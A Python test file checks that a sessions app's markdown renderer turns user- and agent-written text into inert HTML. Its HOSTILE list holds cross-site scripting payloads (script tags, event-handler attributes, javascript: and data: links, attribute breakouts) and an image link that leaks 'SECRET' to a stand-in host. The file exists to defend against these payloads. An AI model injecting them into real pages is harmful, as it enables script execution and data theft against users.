"""What people and agents write becomes HTML that can do nothing."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from sessions_app.web.markdown import render_blocks, render_markdown
from sessions_app.web.rendering import plain_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.test/'</style>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](vbscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![x](https://evil.test/?q=SECRET)",
    '![x" onerror="alert(1)](https://evil.test/)',
    '[a](https://evil.test/" onmouseover="alert(1))',
    "```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ntext\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "[a]: javascript:alert(1)\n\n[a]",
    '<div class="code" data-language="x"><pre><code>forged',
]
HARMLESS_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "a"),
    *("strong", "em", "s", "code", "pre", "span", "div", "table", "thead", "tbody", "tr", "th"),
    *("td", "button", "svg", "rect", "path"),
}


class Reader(HTMLParser):
    """Tags and attributes as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(markup)
    return reader.tags


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_runs_nothing_and_fetches_nothing(text: str) -> None:
    for markup in (render_markdown(text), render_blocks(text).html, plain_text(text)):
        for tag, attributes in tags_of(markup):
            assert tag in HARMLESS_TAGS
            assert not {name for name in attributes if name.startswith("on")}
            assert not {"src", "srcset", "style", "background", "formaction"} & attributes.keys()
            link = (attributes.get("href") or "").strip().lower()
            assert link == "" or link.startswith(("http://", "https://", "mailto:", "/", "#"))


def test_a_remote_image_is_a_link_that_names_its_host() -> None:
    markup = render_markdown("![Chart](https://evil.test/?q=SECRET)")
    assert "<img" not in markup
    assert "Chart (evil.test)" in markup


def test_links_do_not_lead_back_here() -> None:
    attributes = dict(tags_of(render_markdown("https://docs.example.test/")))["a"]
    assert attributes["target"] == "_blank"
    assert "noopener" in str(attributes["rel"])


def test_table_alignment_is_a_class() -> None:
    markup = render_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert markup.count("to-right") == 2
    assert markup.count("to-center") == 2
    assert "style=" not in markup


def test_code_is_highlighted_by_classes_and_can_be_copied() -> None:
    markup = render_markdown("```python\nimport os  # why\n```")
    assert '<span class="kn">import</span>' in markup
    assert 'data-language="Python"' in markup
    assert "data-copy-code" in markup


TEXT = """# Title

A paragraph with **bold**.

- one
- two

  more of two

| a | b |
|---|--:|
| 1 | 2 |

```python
print("x")

print("y")
```

> quoted
> twice

1. first
2. second

End."""


def test_a_growing_text_gives_the_same_blocks_as_the_whole() -> None:
    from sessions_app.web.live import GrowingText

    growing = GrowingText()
    blocks: list[str] = []
    for length in range(1, len(TEXT) + 1):
        keep, markup = growing.grow(TEXT[:length])
        blocks = [*blocks[:keep], *_top_level(markup)]
    assert blocks == _top_level(render_markdown(TEXT))


def _top_level(markup: str) -> list[str]:
    """Each outermost element with what is in it, attributes sorted: they have no order."""
    found: list[str] = []
    depth = 0

    class Splitter(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            nonlocal depth
            if depth == 0:
                found.append("")
            found[-1] += f"<{tag} {sorted(attrs)}>"
            depth += tag not in {"br", "hr"}

        def handle_endtag(self, tag: str) -> None:
            nonlocal depth
            depth -= 1
            found[-1] += f"</{tag}>"

        def handle_data(self, data: str) -> None:
            if depth:
                found[-1] += data

    Splitter(convert_charrefs=True).feed(markup)
    return found


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![a](",
        "*a ",
        "**a",
        "_a",
        "`a",
        "|",
        ">",
        "- ",
        "<",
        "http://a.b ",
        "a@b.c ",
        "```x\n",
    ],
)
def test_no_input_takes_long(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    began = time.process_time()
    render_markdown(text)
    render_markdown(text[:20_000])
    assert time.process_time() - began < 1.5
